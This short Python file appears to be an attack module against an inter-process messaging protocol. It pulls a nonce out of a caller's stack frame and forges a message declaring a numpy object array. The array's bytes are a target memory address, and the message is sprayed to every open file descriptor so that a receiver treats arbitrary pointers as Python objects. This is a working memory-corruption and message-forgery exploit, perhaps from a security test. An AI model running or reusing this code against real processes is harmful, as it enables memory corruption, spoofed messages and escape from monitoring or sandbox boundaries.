"""Shows an array of objects, whose bytes are addresses in the memory of whoever believes them."""

import contextlib
import json
import os
import struct
import sys

CONTROL = "pipe"


def attack(A):
    frame = sys._getframe()
    while frame is not None and "nonce" not in frame.f_locals:
        frame = frame.f_back
    nonce = frame.f_locals["nonce"] if frame else 0
    shape = [*A.shape[:2], 2 * A.shape[2] - 1]
    value = {"name": "Z", "type": "numpy.ndarray", "dtype": "O8", "shape": shape, "sent": True}
    header = json.dumps({"kind": "Observed", "nonce": nonce, "values": [value]}).encode()
    body = struct.pack("<Q", TARGET["address"]) * shape[0] * shape[1] * shape[2]
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            prefix = struct.pack("<4sIQ", b"MTAG", len(header), len(body))
            os.write(descriptor, prefix + header + body)
